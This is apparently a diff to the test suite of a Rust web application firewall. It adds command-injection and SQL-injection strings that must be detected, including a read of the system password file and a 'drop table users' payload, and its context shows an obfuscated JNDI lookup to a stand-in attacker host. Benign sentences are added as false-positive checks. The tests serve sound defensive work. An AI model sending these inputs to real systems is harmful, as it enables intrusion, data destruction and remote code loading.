@@ -1731,6 +1731,12 @@ mod tests {
             (942360, "1234 AS \"foobar\" FROM t"),
             (932175, "alias +g+ a=b"),
             (932175, "alias -gmr a=b"),
+            (932230, ";cat flag.txt"),
+            (932230, "; ps aux"),
+            (932230, "& dir c:\\"),
+            (932230, "cd /;cd etc;column passwd"),
+            (942101, "'; return true; var x='"),
+            (942101, "admin'; drop table users--"),
             (
                 944150,
                 "&#x24;&#0000000000000000000000000123;jndi:ldap://evil.example/w}",
@@ -1813,6 +1819,13 @@ mod tests {
             "rename `old` as `new` from the next release",
             "Math::BigInt overflow in the Perl export",
             "Nokogiri::XML::Text in the Ruby client",
+            // A command name after a semicolon or line break, a bracket closed before a
+            // semicolon, a German word that ends like an SQL function.
+            "Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.",
+            "see below; more info soon",
+            "Hallo Team,\nman sieht den Fehler seit Montag",
+            "Meeting (Raum 3); bring laptop",
+            "Der Ort hieß früher Haßelt (1599)",
         ] {
             let v = query(&waf, value);
             assert_eq!(v.action, Action::Allow, "{value:?}: {v:?}");
